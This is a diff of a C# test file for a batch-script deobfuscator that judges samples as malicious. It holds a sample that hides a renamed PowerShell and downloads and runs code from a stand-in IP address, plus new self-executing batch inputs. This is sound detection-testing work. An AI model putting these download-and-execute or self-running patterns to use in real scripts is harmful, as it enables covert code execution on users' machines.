@@ -44,6 +44,11 @@ public sealed class BatchDisguiseTests
         Assert.True(Deobfuscator.Judge("@echo off\ncopy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe \"%~0.exe\" /y\n\"%~nx0.exe\" -w hidden -c iex (iwr http://203.0.113.7/a)\n").Malicious);
 
     [Theory]
+    [InlineData("@echo off\npowershell -c \"iex ([IO.File]::ReadAllText('%~f0'))\"\n")]
+    [InlineData("@echo off\npowershell -c \"$t = [IO.File]::ReadAllText('%~f0'); iex ($t + $t)\"\n")]
+    public void A_file_that_runs_itself_ends(string batch) => Assert.NotNull(Deobfuscator.Judge(batch).Text);
+
+    [Theory]
     [InlineData(400, ":l{0}\ngoto l{1}\n")]
     [InlineData(4_000, "call set \"v=%%v%%%%v%%x\"\n")]
     [InlineData(4_000, "%a:x=%%b:y=%\n")]
